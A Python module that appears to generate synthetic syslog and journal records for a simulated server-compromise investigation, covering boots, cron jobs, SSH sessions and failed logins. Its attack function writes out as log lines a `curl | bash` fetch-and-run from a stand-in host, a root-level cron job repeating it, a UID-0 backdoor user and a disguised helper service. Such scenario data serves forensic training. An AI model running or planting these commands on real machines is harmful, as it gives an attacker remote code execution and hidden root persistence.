"""What the machines' services logged: one ordered list, from which syslog files and the journal are both made."""
from dataclasses import dataclass

from . import sessions as se
from . import story as s

AUTH, AUTHPRIV, DAEMON, KERN, CRON, USER = 4, 10, 3, 0, 9, 1


@dataclass
class Record:
    when: float       # minutes from T
    host: str
    boot: str         # boot id
    ident: str
    pid: int
    text: str
    facility: int = DAEMON
    priority: int = 6
    unit: str = ""
    uid: int = 0


class _Book:
    def __init__(self, story):
        self.story, self.rng, self.out = story, story.rng("records"), []
        self.boots = se.boots(story)

    def boot_at(self, when):
        """The boot that covers a moment, or None while the machine is off."""
        for boot in reversed(self.boots):
            if boot.start <= when:
                return boot if boot.stop is None or when <= boot.stop else None
        return None

    def add(self, when, ident, text, pid=None, **more):
        boot = self.boot_at(when)
        if boot:
            self.out.append(Record(when, boot.host, boot.id, ident, self.rng.randrange(400, 32000) if pid is None else pid, text, **more))


def _boot(book, boot):
    lines = [
        ("kernel", f"Linux version {boot.kernel} (debian-kernel@lists) (gcc-12 (Debian 12.2.0-14+deb12u1) 12.2.0) #1 SMP PREEMPT_DYNAMIC Debian"),
        ("kernel", f"Command line: BOOT_IMAGE=/boot/vmlinuz-{boot.kernel} root=UUID=6a1cec0e-2014-4000-8000-00000000c0de ro console=tty0 console=ttyS0,115200 earlyprintk=ttyS0,115200 consoleblank=0"),
        ("kernel", "DMI: Amazon EC2 t3.large/, BIOS 1.0 10/16/2017"),
        ("kernel", "nvme nvme0: pci function 0000:00:04.0"),
        ("kernel", "EXT4-fs (nvme0n1p1): mounted filesystem with ordered data mode. Quota mode: none."),
        ("systemd", "systemd 252.39-1~deb12u2 running in system mode (+PAM +AUDIT +SELINUX +APPARMOR)"),
        ("systemd", f"Hostname set to <{boot.host}>."),
        ("systemd", "Mounted srv.mount - /srv." if boot.host == s.HOSTNAME else "Reached target local-fs.target - Local File Systems."),
        ("systemd", "Started cron.service - Regular background program processing daemon."),
        ("systemd", "Started ssh.service - OpenBSD Secure Shell server."),
        ("systemd", "Reached target multi-user.target - Multi-User System."),
    ]
    for i, (ident, text) in enumerate(lines):
        book.add(boot.start + i * 0.013, ident, text, pid=0 if ident == "kernel" else 1, facility=KERN if ident == "kernel" else DAEMON)
    book.add(boot.start + 0.2, "sshd", "Server listening on 0.0.0.0 port 22.", pid=612, facility=AUTH, unit="ssh.service")
    if boot.stop is not None:
        book.add(boot.stop - 0.05, "sshd", "Received signal 15; terminating.", pid=612, facility=AUTH, unit="ssh.service")
        book.add(boot.stop - 0.02, "systemd", "Reached target poweroff.target - System Power Off.", pid=1)


def _cron(book, start, end):
    """Hourly run-parts, the legitimate backup job every six hours, and the session lines that PAM writes for each."""
    hour = int(start // 60) * 60 + 17
    while hour < end:
        jobs = ["cd / && run-parts --report /etc/cron.hourly"]
        if (hour // 60) % 6 == 0 and hour > s.GOLDEN_SETUP:
            jobs.append("/usr/local/bin/shop-backup --quiet")
        for n, job in enumerate(jobs):
            pid, at = book.rng.randrange(500, 32000), hour + 0.017 + n * 0.01
            book.add(at, "CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)", pid=pid, facility=AUTHPRIV, unit="cron.service")
            book.add(at + 0.001, "CRON", f"(root) CMD ({job})", pid=pid + 1, facility=CRON, unit="cron.service")
            book.add(at + 0.01, "CRON", "pam_unix(cron:session): session closed for user root", pid=pid, facility=AUTHPRIV, unit="cron.service")
        hour += 60


def _session(book, x, keys, number):
    more = dict(facility=AUTHPRIV, unit="ssh.service")
    how = f": ED25519 {keys[x.key].fingerprint()}" if x.key else ""
    book.add(x.start, "sshd", f"Accepted {x.method} for {x.user} from {x.address} port {x.port} ssh2{how}", pid=x.pid, facility=AUTH, unit="ssh.service")
    book.add(x.start + 0.001, "sshd", f"pam_unix(sshd:session): session opened for user {x.user}(uid=1000) by (uid=0)", pid=x.pid, **more)
    book.add(x.start + 0.002, "systemd-logind", f"New session {number} of user {x.user}.", pid=588, facility=AUTH, unit="systemd-logind.service")
    for after, cwd, command in x.sudo:
        at = x.start + after
        book.add(at, "sudo", f"   {x.user} : TTY=pts/0 ; PWD={cwd} ; USER=root ; COMMAND={command}", pid=x.pid + 40, facility=AUTHPRIV, priority=5, unit=f"session-{number}.scope", uid=1000)
        book.add(at + 0.0005, "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by admin(uid=1000)", pid=x.pid + 40, facility=AUTHPRIV, unit=f"session-{number}.scope", uid=1000)
        book.add(at + 0.05, "sudo", "pam_unix(sudo:session): session closed for user root", pid=x.pid + 40, facility=AUTHPRIV, unit=f"session-{number}.scope", uid=1000)
    end = x.start + x.length
    book.add(end, "sshd", f"Received disconnect from {x.address} port {x.port}:11: disconnected by user", pid=x.pid + 8, facility=AUTH, unit="ssh.service")
    book.add(end + 0.001, "sshd", f"pam_unix(sshd:session): session closed for user {x.user}", pid=x.pid, **more)
    book.add(end + 0.002, "systemd-logind", f"Session {number} logged out. Waiting for processes to exit.", pid=588, facility=AUTH, unit="systemd-logind.service")


def _failure(book, f):
    more = dict(pid=f.pid, facility=AUTHPRIV, unit="ssh.service")
    who = f.user if f.known else f"invalid user {f.user}"
    if not f.known:
        book.add(f.when, "sshd", f"Invalid user {f.user} from {f.address} port {f.port}", pid=f.pid, facility=AUTH, unit="ssh.service")
    book.add(f.when + 0.0002, "sshd", f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={f.address}"
             + (f"  user={f.user}" if f.known else ""), priority=5, **more)
    book.add(f.when + 0.003, "sshd", f"Failed password for {who} from {f.address} port {f.port} ssh2", pid=f.pid, facility=AUTH, unit="ssh.service")


def _attack(book):
    """What the machine's own services logged of the attack."""
    ci = dict(pid=731, unit="cloud-final.service", facility=USER)
    book.add(-220.0, "cloud-init", f"Cloud-init v. 22.4.2 running 'modules:final'", **ci)
    book.add(-219.95, "cloud-init", "+ curl -fsSL http://198.51.100.23/i.sh", **ci)
    book.add(-219.4, "cloud-init", "Cloud-init v. 22.4.2 finished. Datasource DataSourceEc2Local", **ci)
    book.add(-206.1, "useradd", "new user: name=sysd, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0", pid=5012, facility=AUTHPRIV)
    book.add(-206.0, "chpasswd", "pam_unix(chpasswd:chauthtok): password changed for sysd", pid=5013, facility=AUTHPRIV, priority=5)
    book.add(-202.9, "systemd", "Reloading.", pid=1)
    book.add(-202.8, "systemd", "Started systemd-timesyncd-helper.service - Network Time Synchronization Helper.", pid=1)
    for i in range(10):
        at = -200 + i * 10
        pid = 6000 + i * 77
        book.add(at + 0.02, "CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)", pid=pid, facility=AUTHPRIV, unit="cron.service")
        book.add(at + 0.021, "CRON", "(root) CMD (curl -fsSL http://198.51.100.23/u.sh | bash >/dev/null 2>&1)", pid=pid + 1, facility=CRON, unit="cron.service")
        book.add(at + 0.05, "CRON", "pam_unix(cron:session): session closed for user root", pid=pid, facility=AUTHPRIV, unit="cron.service")


def all_records(story, keys):
    """Everything from the golden machine's first boot to the last act, in order."""
    book = _Book(story)
    for boot in book.boots:
        _boot(book, boot)
    _cron(book, s.GOLDEN_BOOT, s.LAST_ACT)
    for number, session in enumerate(se.sessions(story), 1):
        _session(book, session, keys, number)
    for failure in se.failures(story):
        _failure(book, failure)
    _attack(book)
    return sorted((r for r in book.out if r.when <= s.LAST_ACT), key=lambda r: r.when)
